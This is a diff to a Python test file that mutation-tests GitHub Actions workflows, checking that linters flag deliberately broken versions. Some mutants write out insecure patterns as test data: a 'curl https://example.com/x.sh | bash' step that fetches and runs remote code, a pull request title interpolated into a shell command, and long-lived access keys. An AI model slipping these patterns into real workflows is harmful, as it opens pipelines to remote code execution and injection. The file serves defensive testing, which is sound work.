@@ -1,5 +1,6 @@
 """The workflows: clean for three linters of different minds, and each fault that matters turns one of them red."""
 
+import re
 import shutil
 import subprocess
 import sys
@@ -51,13 +52,28 @@ def test_every_environment_is_deployed_and_looked_at() -> None:
 
 
 CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
-MUTANTS = {
+MUTANTS: dict[str, tuple[str, str | re.Pattern[str], str]] = {
     "staging before dev is done": ("deploy.yml", "    needs: dev\n", ""),
     "production beside staging": ("deploy.yml", "    needs: staging\n", "    needs: dev\n"),
-    "a deployment that is cut off": ("deploy.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
-    "two deployments at once": (
-        "deploy.yml", "concurrency:\n  group: deploy\n  # A deployment that is cut off leaves a stack half-way.\n"
-        "  cancel-in-progress: false\n", ""),
+    "a deployment that is cut off": ("deploy-environment.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
+    "two deployments at once": ("deploy-environment.yml", re.compile(r"    concurrency:\n(      .*\n)*"), ""),
+    "a run that is held by an approval": (
+        "deploy.yml", "permissions: {}\n",
+        "permissions: {}\nconcurrency:\n  group: deploy\n  cancel-in-progress: false\n"),
+    "credentials that end in the middle": (
+        "deploy-environment.yml", "role-duration-seconds: 21600", "role-duration-seconds: 3600"),
+    "root's folders": ("deploy-environment.yml", "make setup", "sudo make setup"),
+    "another Node": (
+        "service-release.yml", re.compile(r" *- uses: actions/setup-node@.*\n *with:\n *node-version-file: .*\n"), ""),
+    "a doctor nobody hears": (
+        "deploy-environment.yml", 'run: ./infra doctor "$ENVIRONMENT"', 'run: ./infra doctor "$ENVIRONMENT" || true'),
+    "a test that may fail": (
+        "check.yml", "      - run: make test\n", "      - run: make test\n        continue-on-error: true\n"),
+    "deployed whatever the doctor says": (
+        "deploy-environment.yml", "      - name: Deploy\n", "      - name: Deploy\n        if: always()\n"),
+    "production whatever became of staging": (
+        "deploy.yml", "    needs: staging\n", "    needs: staging\n    if: always()\n"),
+    "a stranger's script": ("drift.yml", "run: make setup", "run: curl https://example.com/x.sh | bash"),
     "a release that is cut off": ("service-release.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
     "no environment": ("deploy-environment.yml", "    environment: ${{ inputs.environment }}\n", ""),
     "a role written down": (
@@ -66,7 +82,7 @@ MUTANTS = {
         "deploy-environment.yml", "          role-to-assume: ${{ vars.DEPLOY_ROLE }}\n",
         "          aws-access-key-id: ${{ secrets.KEY }}\n          aws-secret-access-key: ${{ secrets.SECRET }}\n"),
     "a day's session": (
-        "service-release.yml", "role-duration-seconds: 3600", "role-duration-seconds: 43200"),
+        "service-release.yml", "role-duration-seconds: 21600", "role-duration-seconds: 43200"),
     "an action by its tag": ("check.yml", f"{CHECKOUT} # v4.2.2", "actions/checkout@v4"),
     "a workflow by its branch": (
         "deploy.yml", "uses: ./.github/workflows/deploy-environment.yml",
@@ -75,8 +91,8 @@ MUTANTS = {
     "no time-out": ("service-release.yml", "    timeout-minutes: 30\n", ""),
     "the token is left behind": ("check.yml", "          persist-credentials: false\n", ""),
     "a title that is run": (
-        "check.yml", '        run: ./infra review "$BASE" >review.md',
-        "        run: echo ${{ github.event.pull_request.title }}"),
+        "check.yml", '          ./infra review "$BASE" >review.md',
+        "          echo ${{ github.event.pull_request.title }}"),
     "strangers with our access": ("check.yml", "on:\n  pull_request:\n", "on:\n  pull_request_target:\n"),
     "released before it is built": ("service-release.yml", "    needs: build\n", ""),
     "drift nobody looks for": ("drift.yml", '  schedule:\n    - cron: "17 4 * * *"\n', ""),
@@ -99,7 +115,8 @@ def test_a_broken_workflow_is_noticed(mutant: str, tmp_path: Path) -> None:
     folder = tmp_path / ".github" / "workflows"
     shutil.copytree(WORKFLOWS, folder)
     text = (folder / file).read_text()
-    assert old in text, "there is nothing to break"
-    (folder / file).write_text(text.replace(old, new))
+    broken = old.sub(new, text) if isinstance(old, re.Pattern) else text.replace(old, new)
+    assert broken != text, "there is nothing to break"
+    (folder / file).write_text(broken)
     # Ours first, as it is by far the quickest.
     assert complaints(read(folder)) or actionlint(folder) or zizmor(folder)
